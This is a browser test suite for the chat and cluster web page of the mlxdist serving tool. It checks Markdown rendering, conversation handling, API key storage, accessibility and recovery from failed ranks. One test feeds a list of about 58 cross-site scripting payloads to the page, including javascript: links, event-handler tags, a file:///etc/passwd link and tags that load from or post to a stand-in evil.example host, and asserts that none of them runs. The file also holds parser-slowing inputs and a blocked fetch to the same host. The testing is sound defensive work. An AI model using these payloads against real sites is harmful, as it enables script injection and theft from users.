"""The page of `mlxdist serve` in Chromium: chat, key, cluster, keyboard, narrow screens, hostile text."""

import json
import os
import re
import signal
from pathlib import Path

import pytest
from browser import chromium, visit
from launching import nothing_left, running  # noqa: F401
from rank_zero import ADMITTED, FINISHED, PROGRESS, answer, cluster_of, launcher_server, said, started
from serving import ServerProcess, save_model_folder
from waiting import wait_for

from mlxdist.cluster.hostfile.options import HostSelection
from mlxdist.serve.protocol import Failed, Output
from mlxdist.tools.observe.web import JobPage

pytestmark = pytest.mark.long

PICTURES = Path(__file__).parents[2] / "docs" / "page"
MARKDOWN = """In a **ring all-reduce** each rank sends *one chunk* at a time to its neighbor:

1. reduce-scatter, `n - 1` steps
2. all-gather, `n - 1` steps

| ranks | bytes that a rank sends |
|---|---|
| 2 | 1.0 times the array |
| 4 | 1.5 times the array |

```python
total = mlxdist.all_sum(x)
```

More is in [the paper](https://example.org/ring).
"""


@pytest.fixture(scope="module")
def browser():
    with chromium() as browser:
        yield browser


@pytest.fixture
def page(browser, client, rank_0):
    with visit(browser, client.server.address) as visited:
        yield visited


def asked(*events):
    """A message that says what rank 0 answers."""
    return json.dumps([list(events)])


def test_a_question_has_its_answer(page):
    page.open().say(asked(*said(ADMITTED, PROGRESS, Output(reasoning="Hm."), Output(content="Hello"), FINISHED)))
    assert page.answer() == "Hello"
    assert page.page.inner_text(".thoughts summary") == "Thoughts"
    assert page.page.inner_text(".assistant .end").startswith("2 tokens")
    assert page.page.input_value("#text") == "" and page.page.evaluate("document.activeElement.id") == "text"


def test_markdown_is_shown(page):
    page.open().say(asked(*answer(MARKDOWN[:50], MARKDOWN[50:])))
    page.answer()
    found = page.page.evaluate(
        "[...document.querySelectorAll('.assistant .content *')].map((each) => each.tagName).join(' ')"
    )
    table = "DIV TABLE THEAD TR TH TH TBODY TR TD TD TR TD TD"
    assert found == f"P STRONG EM OL LI CODE LI CODE {table} PRE CODE P A"
    link = page.page.locator(".content a")
    assert link.get_attribute("href") == "https://example.org/ring" and "noopener" in link.get_attribute("rel")


BLOCKS = {
    "# a #\n\n###### b": "<h3>a</h3><h6>b</h6>",
    "- a\n  - b\n- c": "<ul><li>a<ul><li>b</li></ul></li><li>c</li></ul>",
    "3. a\n\n   b\n4. c": "<ol><li>a<p>b</p></li><li>c</li></ol>",
    "> a\n> > b": "<blockquote><p>a</p><blockquote><p>b</p></blockquote></blockquote>",
    "~~~\n# a\n<b>": "<pre><code># a\n&lt;b&gt;</code></pre>",
    "````\n```\n````": "<pre><code>```</code></pre>",
    "a\n***\nb": "<p>a</p><hr><p>b</p>",
    "a  \nb\\\nc": "<p>a<br>b<br>c</p>",
    "**a *b* c** __d__ _e_ ~~f~~": "<p><strong>a <em>b</em> c</strong> <strong>d</strong> <em>e</em> <del>f</del></p>",
    "snake_case_name 2 * 3 * 4 **a": "<p>snake_case_name 2 * 3 * 4 **a</p>",
    "`` a`b `` \\*c\\* `d": "<p><code>a`b</code> *c* `d</p>",
    "[a](b) [c](https://c.example/x_(y))": "<p><span>a</span> <a>c</a></p>",
    "![d](https://d.example/e.png)": "<p><a>d</a></p>",
    "<https://a.example/b> https://c.example/d.": "<p><a>https://a.example/b</a> <a>https://c.example/d</a>.</p>",
    "a | b\n--|:-:\nc \\| d": "<div><table><thead><tr><th>a</th><th>b</th></tr></thead>"
    "<tbody><tr><td>c | d</td><td></td></tr></tbody></table></div>",
    "&lt;b&gt; <b>c</b>": "<p>&amp;lt;b&amp;gt; &lt;b&gt;c&lt;/b&gt;</p>",
}
READ = """(text) => import('/page/markdown.js').then(({ render }) => {
  const target = document.createElement('div');
  for (let end = 0; end <= text.length; end += 1) render(target, text.slice(0, end));
  for (const each of target.querySelectorAll('*')) {
    for (const { name } of [...each.attributes]) each.removeAttribute(name);
  }
  return target.innerHTML;
})"""


def test_blocks_and_spans_whatever_their_parts(page):
    """Each as its elements, if it comes letter by letter."""
    page.open()
    for text, expected in BLOCKS.items():
        assert page.page.evaluate(READ, text) == expected, text


LONG = [
    "[" * 20_000,
    "*a " * 7_000,
    "> " * 5_000 + "x",
    "`" * 9_999 + "a",
    "- " * 5_000,
    "|" * 20_000 + "\n|-",
    "_a" * 9_999,
]


def test_text_that_is_made_to_be_slow_is_shown(page):
    page.open()
    for text in LONG:
        shown = (
            "(text) => import('/page/markdown.js').then(({ render }) => render(document.createElement('div'), text))"
        )
        page.page.evaluate(shown, text)  # within the time that a test has


def test_an_answer_is_stopped_and_kept(page, rank_0):
    page.open().say(asked(*said(ADMITTED, Output(content="Once upon")), "wait"))
    page.page.wait_for_selector("text=Once upon")
    assert page.page.is_visible("#stop") and not page.page.is_visible("#send")
    page.page.press("#text", "Escape")
    assert page.answer() == "Once upon" and page.page.inner_text(".assistant .end") == "Stopped."
    assert wait_for(lambda: rank_0.left == [True])
    page.say(asked(*said(ADMITTED), "wait"))
    page.page.click("#stop")
    assert page.answer() == "" and wait_for(lambda: rank_0.left == [True, True])


def test_a_question_is_edited_and_an_answer_regenerated(page, rank_0):
    page.open().say(asked(*answer("First")))
    assert page.answer() == "First"
    page.say(asked(*answer("Second")))
    assert page.answer() == "Second"
    page.page.click("[aria-label='Regenerate message 4']")
    assert page.answer() == "Second"
    roles = [[message["role"] for message in call["prompt"]["messages"]] for call in rank_0.calls]
    assert roles == [["user"], ["user", "assistant", "user"], ["user", "assistant", "user"]]
    page.page.click("[aria-label='Edit message 1']")
    page.page.keyboard.press("Escape")
    assert len(page.messages()) == 4
    page.page.click("[aria-label='Edit message 1']")
    page.page.fill("[aria-label='Edited message']", asked(*answer("Third")))
    page.page.keyboard.press("Enter")
    assert page.answer() == "Third" and len(page.messages()) == 2


def test_an_error_is_shown_and_the_question_can_be_asked_again(page):
    late = Failed(message="the request has taken too long", status=504)
    page.open().say(json.dumps([said(ADMITTED, Output(content="He"), late), answer("Hello")]))
    assert page.answer() == "He" and page.page.inner_text(".end.error") == "The request has taken too long."
    page.page.click("[aria-label='Regenerate message 2']")
    assert page.answer() == "Hello"


def test_conversations_are_kept_over_a_reload(page):
    page.open().say("[" + asked(*answer("One"))[1:])
    assert page.answer() == "One"
    page.page.click("#new")
    page.say(asked(*answer("Two")))
    assert page.answer() == "Two"
    page.open()
    assert page.page.locator("#conversations li").count() == 2 and page.messages()[1] == "Two"
    page.page.click("#conversations li:nth-child(2) .title")
    assert page.messages()[1] == "One"
    page.page.evaluate("window.confirm = () => true")
    page.page.click("#conversations li:nth-child(2) [aria-label^='Delete']")
    page.open()
    assert page.page.locator("#conversations li").count() == 1 and page.messages()[1] == "Two"


def test_the_key_is_asked_for_and_kept_as_the_user_says(browser):
    with launcher_server(api_key="a-long-key") as client, started(client):
        for keep in (False, True):
            with visit(browser, client.server.address) as page:
                page.open()
                page.page.keyboard.press("Escape")
                assert page.page.is_visible("dialog") and page.page.evaluate("document.activeElement.id") == "key"
                page.page.fill("#key", "another-key")
                page.page.keyboard.press("Enter")
                page.page.wait_for_selector("text=does not accept this key")
                assert len(page.problems) == 1 and "401" in page.problems.pop()  # Chromium's line about the answer
                page.page.fill("#key", "a-long-key")
                page.page.set_checked("#keep", keep)
                page.page.keyboard.press("Enter")
                page.page.wait_for_selector("#state[data-state='good']")
                page.say(asked(*answer("Hello")))
                assert page.answer() == "Hello"
                stores = page.page.evaluate("[sessionStorage['mlxdist.key'], localStorage['mlxdist.key']]")
                assert stores == ([None, "a-long-key"] if keep else ["a-long-key", None])
                page.page.reload()
                page.page.wait_for_selector("#state[data-state='good']")
                assert not page.page.is_visible("dialog")


# Beside each a reason why it might run: markup, addresses, attributes, ends of what is around it, Markdown's own forms.
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/x.png>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=https://evil.example/x.swf>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><button autofocus>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<a href=javascript:alert(1) id=run>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](blob:https://evil.example/1)",
    "[x](file:///etc/passwd)",
    "[x](view-source:https://evil.example)",
    '[x](https://a.example/" onmouseover="alert(1))',
    "[<img src=x onerror=alert(1)>](https://a.example)",
    "[x](https://a.example 'onclick=alert(1)')",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/x.png)",
    '![x](x"onerror="alert(1))',
    "<javascript:alert(1)>",
    "```html\n<script>alert(1)</script>\n```",
    '```"><img src=x onerror=alert(1)>\nx\n```',
    "`<img src=x onerror=alert(1)>`",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | c |",
    "# <img src=x onerror=alert(1)>",
    "> <svg onload=alert(1)>",
    "- <img src=x onerror=alert(1)>\n  - <script>alert(1)</script>",
    "**<img src=x onerror=alert(1)>** ~~<script>alert(1)</script>~~",
    "</div></li></ol></section><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)}",
]
# Only elements that the page makes, and no attribute that runs or loads something.
INSPECT = """() => {
  const known = new Set(['P','H3','H4','H5','H6','OL','UL','LI','PRE','CODE','TABLE','THEAD','TBODY','TR','TH','TD',
    'BLOCKQUOTE','HR','BR','A','EM','STRONG','DEL','SPAN','DIV']);
  const attributes = new Set(['class','tabindex','aria-label','role','href','title','rel','target','start']);
  const wrong = [];
  for (const each of document.querySelectorAll('.content *, .thoughts div *, #conversations .title *')) {
    if (!known.has(each.tagName)) wrong.push(each.tagName);
    for (const { name } of each.attributes) if (!attributes.has(name)) wrong.push(`${each.tagName} ${name}`);
    if (each.href && !['http:', 'https:', 'mailto:'].includes(new URL(each.href).protocol)) wrong.push(each.href);
  }
  return wrong;
}"""


def test_text_of_a_model_is_never_markup(page):
    """No dialog, no element of it, and no request: as an answer, as thoughts, as a question, and after a reload."""
    assert len(HOSTILE) >= 50
    page.open()
    for text in HOSTILE:
        events = said(ADMITTED, Output(reasoning=text), Output(content=text[:9]), Output(content=text[9:]), FINISHED)
        page.say(asked(*events))
        page.answer()
        assert page.page.evaluate(INSPECT) == [], text
        for link in page.page.locator(".assistant:last-child .content a").all():
            link.hover()
        page.page.click("#new")
    page.open()
    assert page.page.locator("#conversations li").count() == len(HOSTILE)
    for number in range(len(HOSTILE)):
        page.page.locator("#conversations .title").nth(number).click()
        assert page.page.evaluate(INSPECT) == []
    assert page.problems == [] and len(page.context.pages) == 1


def test_hostile_text_of_the_server_itself(page, rank_0):
    """Names of models, hosts and calls come from other machines."""
    text = "<img src=x onerror=alert(1)>"
    rank_0.cluster |= {"model": text, "layout": text}
    for record, held in zip(rank_0.cluster["observation"]["records"], rank_0.cluster["held"]):
        record["operations"][0]["call_site"], held["host"], held["layers"] = text, text, text
    page.open("/#cluster")
    page.page.wait_for_selector("#ranks li")
    assert page.page.locator("#cluster img").count() == 0 and text in page.page.inner_text("#ranks")


def test_the_policy_stops_what_the_page_does_not_do(page):
    """Were there a way to make markup, it would be an error."""
    page.open()
    made = page.page.evaluate("() => { try { document.body.innerHTML = '<p>'; } catch (error) { return error.name; } }")
    assert made == "TypeError"
    page.page.evaluate(
        "document.head.append(Object.assign(document.createElement('style'), {textContent: '* {color: red}'}))"
    )
    left = page.page.evaluate("fetch('https://evil.example/').then(() => 'left', () => 'stopped')")
    assert left == "stopped" and page.problems
    assert not any(problem.startswith("request") for problem in page.problems)
    page.problems.clear()


def test_it_can_be_used_by_keyboard_alone(page):
    page.open()
    page.page.keyboard.type(asked(*answer("Hello")))  # the focus is where one types
    page.page.keyboard.press("Shift+Enter")
    page.page.keyboard.press("Enter")
    assert page.answer() == "Hello"
    reached = []
    for _ in range(30):
        page.page.keyboard.press("Tab")
        seen = "((at) => at.getAttribute('aria-label') || at.id || at.textContent)(document.activeElement)"
        reached.append(page.page.evaluate(seen))
        style = "(at) => at === document.body ? 'left' : getComputedStyle(at).outlineStyle"
        assert page.page.evaluate(f"({style})(document.activeElement)") != "none", reached
    assert {"new", "Messages", "Regenerate message 2", "Edit message 1", "to-cluster", "send"} <= set(reached), reached
    page.page.focus("#to-cluster")
    page.page.keyboard.press("Enter")
    page.page.wait_for_selector("#ranks li")


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [375, 1100])
def test_axe_finds_nothing_serious(browser, client, rank_0, scheme, width):
    """axe-core is put into the page, which its policy forbids, so that is off here."""
    import axe_playwright_python.sync_playwright as axe

    rank_0.cluster = cluster_of(3, running=1)
    options = {"color_scheme": scheme, "viewport": {"width": width, "height": 720}, "bypass_csp": True}
    with visit(browser, client.server.address, **options) as page:
        page.open().say(asked(*said(ADMITTED, Output(reasoning="Hm."), Output(content=MARKDOWN), FINISHED)))
        page.answer()
        found = [axe.Axe().run(page.page).response["violations"]]
        page.page.click("#to-cluster")
        page.page.wait_for_selector("#ranks li")
        found.append(axe.Axe().run(page.page).response["violations"])
        page.page.evaluate("document.querySelector('#ask').showModal()")
        found.append(axe.Axe().run(page.page).response["violations"])
        serious = [each for each in sum(found, []) if each["impact"] in ("serious", "critical")]
        assert not serious, [(each["id"], [node["html"] for node in each["nodes"]]) for each in serious]


def test_a_narrow_screen_has_no_horizontal_scrolling(browser, client, rank_0):
    rank_0.cluster = cluster_of(3, running=1)
    with visit(browser, client.server.address, viewport={"width": 375, "height": 667}, has_touch=True) as page:
        page.open().say(
            asked(*answer(MARKDOWN + "x" * 300 + "\n\n" + "| long | cells |\n|---|---|\n" + "| y | " + "z" * 90))
        )
        page.answer()
        for name in ("#to-cluster", "#to-chat"):
            widths = page.page.evaluate(
                "[document.documentElement, document.querySelector('main')].map((one) => one.scrollWidth)"
            )
            assert max(widths) <= 375
            page.page.click(name)
            page.page.wait_for_selector("#ranks li" if name == "#to-cluster" else "#text", state="visible")
        assert not page.page.is_visible("#conversations")
        page.page.click("#toggle")
        page.page.click("#conversations .title")
        assert not page.page.is_visible("#conversations")


def test_a_rank_that_is_killed_is_red_and_then_green(browser, tmp_path):
    """With ranks as they are. The page is the same one all the time."""
    model = save_model_folder(tmp_path / "tiny", max_position_embeddings=8192)
    with ServerProcess(model, 2) as server, visit(browser, server.address) as page:
        page.open().say("Hello")
        assert page.answer()
        page.page.click("#to-cluster")
        page.page.wait_for_selector("[data-rank='1'][data-state='good']")
        os.kill(server.pids()[1], signal.SIGKILL)
        page.page.wait_for_selector("[data-rank='1'][data-state='bad']")
        page.page.wait_for_selector("#state[data-state='bad']")
        assert "rank 1 failed first" in page.page.inner_text("#reason")
        page.page.wait_for_selector("[data-rank='1'][data-state='good']")
        page.page.wait_for_selector("#state[data-state='good']")
        assert page.states() == ["up", "up"] and "Restarts\n1" in page.page.inner_text("#totals")
        page.page.click("#to-chat")
        page.say("And now?")
        assert page.answer()
        assert server.stop() == 0, "".join(server.lines)


def test_a_server_that_has_gone_is_asked_until_it_is_back(browser, tmp_path):
    """The page waits where no launcher keeps the address, as under `mlxdist launch ... -- mlxdist serve`."""
    model = save_model_folder(tmp_path / "tiny")
    with launcher_server() as gone:
        port = gone.port
    with ServerProcess(model, 1, "--port", port) as server, visit(browser, server.address) as page:
        page.open("/#cluster")
        page.page.wait_for_selector("[data-rank='0'][data-state='good']")
        assert server.stop() == 0
        page.page.wait_for_selector("#state[data-state='bad']")
        assert page.page.inner_text("#reason") == "The server does not answer." and page.states() == ["down"]
        with ServerProcess(model, 1, "--port", port):
            page.page.wait_for_selector("[data-rank='0'][data-state='good']")
        assert page.problems and all("Failed to load resource" in problem for problem in page.problems)
        page.problems.clear()


JOB = """
import numpy, mlxdist
mlxdist.init()
print('ready', flush=True)
while True: mlxdist.all_sum(numpy.ones(100_000, numpy.float32))
"""


def test_the_page_of_a_job_is_the_cluster_without_the_chat(browser):
    with running(2, JOB) as job, JobPage(None, HostSelection(), "127.0.0.1", 0, "") as served:
        with visit(browser, served.address) as page:
            page.open()
            page.page.wait_for_selector("[data-rank='1'] >> text=all_sum")
            assert not page.page.is_visible("#to-chat") and not page.page.is_visible("#chat")
            assert page.page.inner_text("#state") == "2 ranks"
            job.terminate()
            job.communicate(timeout=60)
            page.page.wait_for_selector("#state[data-state='bad']")
            assert "has ended" in page.page.inner_text("#reason") and page.states() == ["down", "down"]


def test_the_pictures_of_the_documentation(browser, client, rank_0, request, tmp_path):
    """They show the page before the state of four ranks that are made up. --pictures makes them again."""
    rank_0.cluster = cluster_of(4, running=3)
    for record in rank_0.cluster["observation"]["records"]:
        record["operations"][0]["call_site"] = ""
    folder = PICTURES if request.config.getoption("--pictures") else tmp_path
    folder.mkdir(exist_ok=True)
    sizes = {"light": (1000, 740), "dark": (1000, 740), "phone": (375, 667)}
    for name, (width, height) in sizes.items():
        options = {
            "color_scheme": "dark" if name == "dark" else "light",
            "viewport": {"width": width, "height": height},
        }
        with visit(browser, client.server.address, **options) as page:
            page.open().say(asked(*answer(MARKDOWN)))
            page.answer()
            page.page.evaluate(TITLED, "How does a ring all-reduce work?")
            page.page.screenshot(path=folder / f"chat-{name}.png")
            page.page.click("#to-cluster")
            page.page.wait_for_selector("#ranks li")
            rank_0.cluster["requests"]["generated_tokens"] += 150
            page.page.locator("#totals dd").first.filter(has_text=re.compile("[1-9]")).wait_for()
            page.page.screenshot(path=folder / f"cluster-{name}.png")
    for made in (folder, PICTURES):
        assert {path.name for path in made.iterdir()} == {
            f"{of}-{name}.png" for of in ("chat", "cluster") for name in sizes
        }
        assert all(path.stat().st_size < 150_000 for path in made.iterdir())


# In place of the question that says what rank 0 answers.
TITLED = """(text) => {
  document.querySelector('.user .content').textContent = text;
  document.querySelector('#conversations .title').textContent = text;
  document.activeElement.blur();
  document.querySelector('#messages').scrollTop = 0;
}"""
